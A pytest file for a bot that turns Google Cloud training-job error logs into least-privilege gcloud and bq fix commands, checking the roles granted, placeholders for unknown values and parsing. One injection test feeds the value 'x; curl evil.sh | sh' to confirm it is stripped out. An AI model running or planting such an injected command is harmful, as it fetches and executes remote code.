"""Ready commands: filled from the evidence and the job, least privilege, and accepted by the real gcloud CLI."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from bot.classifier import Classifier
from bot.commands import fill
from bot.knowledge import load_knowledge
from bot.log_input import text_to_lines
from bot.models import Diagnosis, JobInfo
from tests.gcloud_parser import check_commands, gcloud_available, with_sample_values

JOB = JobInfo(
    job_id="8501620632646057984",
    project="acme-ml",
    region="europe-west4",
    display_name="resnet-50",
    state="JOB_STATE_FAILED",
    service_account="trainer@acme-ml.iam.gserviceaccount.com",
)
JOB_NO_SA = JOB.model_copy(update={"service_account": None})
AGENT_PLACEHOLDER = "serviceAccount:SERVICE_ACCOUNT_EMAIL"  # the command names what to fill in

BUCKET = (
    "google.api_core.exceptions.Forbidden: 403 GET https://storage.googleapis.com/storage/v1/b/acme-train-data/o: "
    "someone@example.com does not have storage.objects.list access to the Google Cloud Storage bucket. "
    "Permission 'storage.objects.list' denied on resource (or it may not exist)."
)
BIGQUERY_PROJECT = (
    "google.api_core.exceptions.Forbidden: 403 POST https://bigquery.googleapis.com/bigquery/v2/projects/data-lake-1/"
    "jobs: Access Denied: Project data-lake-1: User does not have bigquery.jobs.create permission in project "
    "data-lake-1."
)
BIGQUERY_TABLE = (
    "google.api_core.exceptions.Forbidden: 403 Access Denied: Table data-lake-1:events.clicks: User does not have "
    "permission to query table data-lake-1:events.clicks, or perhaps it does not exist."
)
ACT_AS = (
    'details = "You do not have permission to act as service_account: runner@acme-ml.iam.gserviceaccount.com. '
    '(or it may not exist)."'
)
QUOTA = (
    "google.api_core.exceptions.ResourceExhausted: 429 The following quota metrics exceed quota limits: "
    "aiplatform.googleapis.com/custom_model_training_nvidia_a100_gpus in region us-east4"
)
STOCKOUT = "The zone 'us-central1-a' does not have enough resources available to fulfill the request."


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier(load_knowledge())


def diagnose(classifier: Classifier, text: str, job: JobInfo | None = JOB) -> Diagnosis:
    return classifier.classify(text_to_lines(text), job)


def commands_of(diagnosis: Diagnosis) -> list[str]:
    return [command.command for command in diagnosis.commands]


def test_bucket_denial_grants_the_narrowest_role_on_the_bucket_to_the_jobs_account(classifier) -> None:
    diagnosis = diagnose(classifier, BUCKET)
    assert diagnosis.failure_class == "permission_denied"
    grant = next(c for c in commands_of(diagnosis) if "buckets add-iam-policy-binding" in c)
    assert grant.startswith("gcloud storage buckets add-iam-policy-binding gs://acme-train-data ")
    assert "--member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com" in grant
    assert "--role=roles/storage.objectViewer" in grant
    assert not any("projects add-iam-policy-binding" in c for c in commands_of(diagnosis))
    assert "someone@example.com" not in " ".join(commands_of(diagnosis))  # a user's own IAM is the trap


def test_job_without_a_service_account_uses_the_custom_code_service_agent(classifier) -> None:
    diagnosis = diagnose(
        classifier,
        BUCKET + "\nTo find out more about why your job exited please check the logs: "
        "https://console.cloud.google.com/logs/viewer?project=608533675308&resource=ml_job%2Fjob_id%2F1",
        JOB_NO_SA,
    )
    assert diagnosis.details["service_account"] == "service-608533675308@gcp-sa-aiplatform-cc.iam.gserviceaccount.com"
    assert all("608533675308@gcp-sa-aiplatform-cc" in c for c in commands_of(diagnosis) if "--member=" in c)
    unnumbered = diagnose(classifier, BUCKET, JOB_NO_SA)
    assert "service_account" not in unnumbered.details  # unknown: left out, never a placeholder
    assert all(AGENT_PLACEHOLDER in c for c in commands_of(unnumbered) if "--member=" in c)


def test_bigquery_project_permission_is_a_project_binding_of_job_user(classifier) -> None:
    diagnosis = diagnose(classifier, BIGQUERY_PROJECT)
    grant = next(c for c in commands_of(diagnosis) if "projects add-iam-policy-binding" in c)
    assert grant.startswith("gcloud projects add-iam-policy-binding data-lake-1 ")
    assert "--role=roles/bigquery.jobUser" in grant


def test_bigquery_table_denial_is_a_dataset_binding(classifier) -> None:
    diagnosis = diagnose(classifier, BIGQUERY_TABLE)
    grant = next(c for c in commands_of(diagnosis) if c.startswith("bq "))
    assert grant.endswith(" data-lake-1:events")
    assert "-d " in grant and "--role=roles/bigquery.dataViewer" in grant


def test_act_as_grants_service_account_user_on_that_one_account(classifier) -> None:
    diagnosis = diagnose(classifier, ACT_AS)
    grant = next(c for c in commands_of(diagnosis) if "service-accounts add-iam-policy-binding" in c)
    assert grant.startswith("gcloud iam service-accounts add-iam-policy-binding runner@acme-ml.iam.gserviceaccount.com")
    assert "--role=roles/iam.serviceAccountUser" in grant
    assert "--member=user:SUBMITTER_EMAIL" in grant  # unknown: an explicit placeholder, not a guess


def test_quota_commands_name_the_metric_and_the_region_from_the_error(classifier) -> None:
    diagnosis = diagnose(classifier, QUOTA)
    assert diagnosis.failure_class == "quota_exhausted"
    text = "\n".join(commands_of(diagnosis))
    assert "metric=aiplatform.googleapis.com/custom_model_training_nvidia_a100_gpus" in text
    assert "--dimensions=region=us-east4" in text  # the error's region wins over the job's
    assert "gcloud beta quotas preferences create --service=aiplatform.googleapis.com" in text
    assert "--region=ALTERNATIVE_REGION" in text
    assert "--project=acme-ml" in text


def test_unknown_values_stay_placeholders(classifier) -> None:
    diagnosis = diagnose(classifier, QUOTA.replace(" in region us-east4", ""), job=None)
    text = "\n".join(commands_of(diagnosis))
    assert "--project=PROJECT_ID" in text and "--dimensions=region=REGION" in text
    assert "acme-ml" not in text


def test_log_text_cannot_inject_shell_into_commands() -> None:
    command = fill("gcloud storage buckets describe gs://{bucket}", {"bucket": "x; curl evil.sh | sh"})
    assert command == "gcloud storage buckets describe gs://BUCKET"
    assert shlex.split(command)[-1] == "gs://BUCKET"


SCENARIOS = {
    "bucket": (BUCKET, JOB),
    "bucket_no_sa": (BUCKET, JOB_NO_SA),
    "bigquery_project": (BIGQUERY_PROJECT, JOB),
    "bigquery_table": (BIGQUERY_TABLE, JOB),
    "act_as": (ACT_AS, JOB),
    "quota": (QUOTA, JOB),
    "quota_no_job": (QUOTA, None),
    "stockout": (STOCKOUT, JOB),
    "unknown": ("all good here", JOB),
    "generic_403": ("HttpError 403 when requesting https://example.googleapis.com returned Forbidden", None),
}


@pytest.mark.skipif(not gcloud_available(), reason="the gcloud CLI is not installed")
def test_every_gcloud_command_passes_the_real_gcloud_parser(classifier, tmp_path: Path) -> None:
    commands: list[str] = []
    for text, job in SCENARIOS.values():
        for command in commands_of(diagnose(classifier, text, job)):
            if command.startswith("gcloud "):
                commands.append(command)
            else:
                assert re.match(
                    r"^bq add-iam-policy-binding -d --member=serviceAccount:\S+ --role=roles/\S+ \S+:\S+$", command
                ), command
    assert len(commands) >= 15
    prepared = sorted({with_sample_values(command) for command in commands})
    failures = [r for r in check_commands(prepared, tmp_path / "gcloud") if not r.parsed]
    assert not failures, "\n\n".join(f"{r.command}\n -> rc={r.returncode} {r.stderr[:300]}" for r in failures)


def test_every_member_and_role_is_well_formed(classifier) -> None:
    for text, job in SCENARIOS.values():
        for command in commands_of(diagnose(classifier, text, job)):
            for member in re.findall(r"--member=(\S+)", command):
                assert re.match(
                    # an unknown account is an explicit placeholder (the service agent's address needs the number)
                    r"^(serviceAccount|user|group):[^@\s]+@[^@\s]+$|^user:SUBMITTER_EMAIL$|^serviceAccount:SERVICE_ACCOUNT_EMAIL$",
                    member,
                ), command
            for role in re.findall(r"--role=(\S+)", command):
                assert re.match(r"^roles/[a-zA-Z]+\.[a-zA-Z]+$", role) or role == "ROLE", command
